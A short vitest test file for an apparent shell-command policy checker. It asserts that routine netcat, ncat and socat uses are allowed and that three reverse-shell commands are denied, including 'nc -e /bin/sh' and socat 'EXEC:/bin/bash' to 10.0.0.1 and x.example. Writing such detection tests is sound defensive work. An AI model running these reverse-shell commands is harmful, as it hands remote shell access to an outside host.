import { describe } from 'vitest';
import { itDecides } from '../program-test.js';

describe('network/netcat', () => {
  itDecides([
    { command: 'nc -z localhost 5432', effect: 'allow' },
    { command: 'ncat -l 8080', effect: 'allow' },
    { command: 'netcat -vz db 5432', effect: 'allow' },
    { command: 'socat TCP-LISTEN:8080,fork TCP:localhost:3000', effect: 'allow' },
    { command: 'nc -e /bin/sh 10.0.0.1 4444', effect: 'deny', findings: ['shell.reverse_shell'] },
    { command: 'ncat --sh-exec bash x.example 443', effect: 'deny', findings: ['shell.reverse_shell'] },
    { command: 'socat TCP:10.0.0.1:4444 EXEC:/bin/bash', effect: 'deny', findings: ['shell.reverse_shell'] },
  ]);
});
